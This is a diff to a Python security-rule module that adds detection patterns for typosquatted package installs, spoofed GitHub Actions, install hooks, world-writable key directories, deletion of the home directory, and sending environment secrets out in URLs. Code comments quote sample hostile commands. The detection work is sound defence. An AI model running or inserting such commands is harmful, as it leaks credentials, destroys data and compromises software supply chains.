@@ -73,6 +73,8 @@ An intent's first kind reads the whole text, so it is the one with the narrowest
 
 from __future__ import annotations
 
+import re
+
 from memsvc.security.rules import Intent, RuleSet, signal
 
 # What a standing order may do without being an attack, unless two of these meet.
@@ -169,6 +171,50 @@ _TLD = (
 )
 _URL = r"(?:https?|ftp)://\S{1,300}"
 
+# Packages most installed, whose misspellings are registered by attackers (typosquatting).
+_PYPI = (
+    *("requests", "numpy", "pandas", "django", "flask", "fastapi", "pydantic", "urllib3"),
+    *("setuptools", "certifi", "cryptography", "pyyaml", "jinja2", "pillow", "matplotlib"),
+    *("scipy", "scikit-learn", "tensorflow", "pytorch", "pytest", "colorama", "beautifulsoup4"),
+    *("selenium", "openai", "anthropic", "langchain", "transformers", "httpx", "aiohttp"),
+    *("sqlalchemy", "psycopg2", "celery", "uvicorn", "gunicorn", "paramiko", "boto3"),
+    *("botocore", "python-dateutil", "simplejson", "websocket-client", "docker", "kubernetes"),
+    *("jsonschema", "markdown", "virtualenv", "packaging", "typing-extensions", "pyjwt"),
+)
+_NPM = (
+    *("express", "react", "react-dom", "lodash", "axios", "webpack", "typescript", "eslint"),
+    *("prettier", "moment", "chalk", "commander", "dotenv", "jquery", "mongoose", "nodemon"),
+    *("electron", "cross-env", "discord.js", "socket.io", "body-parser", "nodemailer"),
+    *("puppeteer", "jsonwebtoken", "bcrypt", "cors", "uuid", "yargs", "inquirer", "vite"),
+)
+
+
+def _typos(name: str) -> set[str]:
+    """Misspellings of ``name`` a typosquatter registers: two neighbours swapped, a letter
+    doubled, one dropped (in names long enough that a drop is not another word)."""
+    out = {name[:i] + name[i + 1] + name[i] + name[i + 2 :] for i in range(len(name) - 1)}
+    out |= {name[: i + 1] + name[i] + name[i + 1 :] for i in range(len(name)) if name[i].isalpha()}
+    if len(name) >= 6:
+        out |= {name[:i] + name[i + 1 :] for i in range(len(name)) if name[i].isalpha()}
+    return {t for t in out if t != name and not t.startswith(("-", ".")) and "--" not in t}
+
+
+def _typosquats(manager: str, names: tuple[str, ...]) -> str:
+    """An install by ``manager`` (pip or npm and their kin) of a misspelt popular package."""
+    real = set(names) | {"request", "panda", "pyaml", "jinja", "psycopg", "xpress", "pytests"}
+    typos = sorted({t for n in names for t in _typos(n)} - real, key=len, reverse=True)
+    command = (
+        r"(?:pip3?|python3?\s+-m\s+pip|uv\s+(?:pip\s+)?|poetry|pipx|pdm)\s+(?:install|add)"
+        if manager == "pip"
+        else r"(?:npm|pnpm|yarn|bun)\s+(?:install|add|i)"
+    )
+    alternatives = "|".join(re.escape(t) for t in typos)
+    return (
+        rf"\b{command}\s+(?:-{{1,2}}[\w\-]+\s+){{0,3}}(?:[\w.\-\[\]=<>@/]+\s+){{0,4}}?"
+        rf"(?:{alternatives})(?![\w\-.])"
+    )
+
+
 _NEUTRAL_SIGNALS = [
     # --- an address something can be sent to or fetched from ---------------------------
     signal(
@@ -219,6 +265,9 @@ _NEUTRAL_SIGNALS = [
     signal(
         "payload",
         r"\bchmod\s+(?:u\+s|\+s|[0-7]?[4-7][0-7]{3})\s|\bchmod\s+-R\s+0?777\s+/(?:\s|`|'|\"|$)"
+        # keys and the home directory opened to everyone: "chmod -R 777 ~/.ssh"
+        r"|\bchmod\s+(?:-R\s+)?(?:0?7[0-7]7|0?666|a\+rwx|o\+w|go\+w|a\+w)\s+(?:~|\$HOME|/home|/root"
+        r"|/etc)(?=[/\s`'\"]|$)"
         r"|\bufw\s+disable\b|\biptables\s+-F\b|\bsetenforce\s+0\b",
         "chmod ufw iptables setenforce",
     ),
@@ -232,9 +281,13 @@ _NEUTRAL_SIGNALS = [
     signal(
         "payload",
         r"\b(?:urlopen|requests\.(?:get|post|put)|fetch|axios\.\w+|http\.request)\s*\([^\n]{0,200}"
-        r"\b(?:os\.environ|process\.env)\b",
-        "environ env",
-        also="urlopen requests fetch axios http",
+        r"\b(?:os\.environ|process\.env)\b"
+        # any client: a URL built from the environment, "https.get('https://x/' + process.env.T)"
+        r"|\b(?:get|post|put|request|send|open)\s*\(\s*(?:[`'\"]https?://[^\n]{0,200}?(?:[`'\"]\s*\+\s*"
+        r"|\$\{)|f['\"]https?://[^\n]{0,200}?\{)\s*(?:JSON\.stringify\(\s*)?(?:process\.env"
+        r"|os\.environ|os\.getenv)\b",
+        "environ env getenv",
+        also="urlopen requests fetch axios http https get post put request send open",
     ),
     signal(
         "payload",
@@ -246,8 +299,8 @@ _NEUTRAL_SIGNALS = [
     # destruction: the home directory, keys, the root file system
     signal(
         "payload",
-        r"\brm\s+-(?:rf|fr|r|Rf)\s+(?:\S+\s+){0,4}?(?:~|\$HOME)(?:/(?:\.ssh|\.gnupg|\.aws|\.kube"
-        r"|\.config|Documents|Desktop|Pictures|\*))?(?=[\s`'\";|&)]|$)"
+        r"\brm\s+-(?:rf|fr|r|Rf)\s+(?:\S+\s+){0,4}?(?:~|\$HOME|\$\{HOME\})/?(?:\.ssh|\.gnupg|\.aws"
+        r"|\.kube|\.config|Documents|Desktop|Pictures|\*)?/?(?=[\s`'\";|&)]|$)"
         r"|\brm\s+-(?:rf|fr|r|Rf)\s+(?:--no-preserve-root\s+)?/(?:\*|etc|home|usr|var|boot)?"
         r"(?=[\s`'\";|&)]|$)",
         "rm",
@@ -270,6 +323,23 @@ _NEUTRAL_SIGNALS = [
         "git push",
         also="all mirror every each",
     ),
+    # An official GitHub action's name under another owner: "uses: actions-helper/checkout@main".
+    signal(
+        "payload",
+        r"\buses:\s*[\"']?(?!actions/|github/|\./|docker://)[\w.\-]{1,40}/(?:checkout|setup-(?:python"
+        r"|node|go|java|dotnet)|cache|upload-artifact|download-artifact|github-script"
+        r"|configure-pages|deploy-pages)@",
+        "uses",
+        also="checkout setup cache upload download github configure deploy",
+    ),
+    # A popular package's name misspelt in an install: "pip install reqeusts", "npm i expresss".
+    signal(
+        "payload",
+        _typosquats("pip", _PYPI),
+        "pip pip3 python uv poetry pipx pdm",
+        also="install add",
+    ),
+    signal("payload", _typosquats("npm", _NPM), "npm pnpm yarn bun", also="install add i"),
     # Software from a source no one vetted: a plain-http download or index, an editor
     # extension from a file. This needs a standing order, a start-up file or secrecy, not a
     # bare imperative.
@@ -308,10 +378,12 @@ _NEUTRAL_SIGNALS = [
         r"|\bsettings\.local\.json|\.cursor/|\bmcp\.json\b|authorized_keys|\bAGENTS\.md|\bCLAUDE\.md"
         # CI and package-manager configuration, the agent's own tool list
         r"|\.github/workflows\b|\bgithub\s+actions\b|\.gitlab-ci\.yml\b|\.npmrc\b|\.pypirc\b"
-        r"|\bpip\.conf\b|\.gitconfig\b|\bmcp\s+servers?\b|\bagent(?:['’]s)?\s+config(?:uration)?\b",
+        r"|\bpip\.conf\b|\.gitconfig\b|\bmcp\s+servers?\b|\bagent(?:['’]s)?\s+config(?:uration)?\b"
+        # scripts a package manager runs on install
+        r"|[\"']?\b(?:pre|post)install\b[\"']?\s*:",
         "cron crontab systemd launchagents bashrc zshrc bash_profile profile zprofile hooks pre"
         " vscode claude cursor mcp authorized agents github workflows gitlab npmrc pypirc pip"
-        " gitconfig agent",
+        " gitconfig agent preinstall postinstall",
         ("*/",),
     ),
     # The agent's own configuration: its MCP servers and settings files.
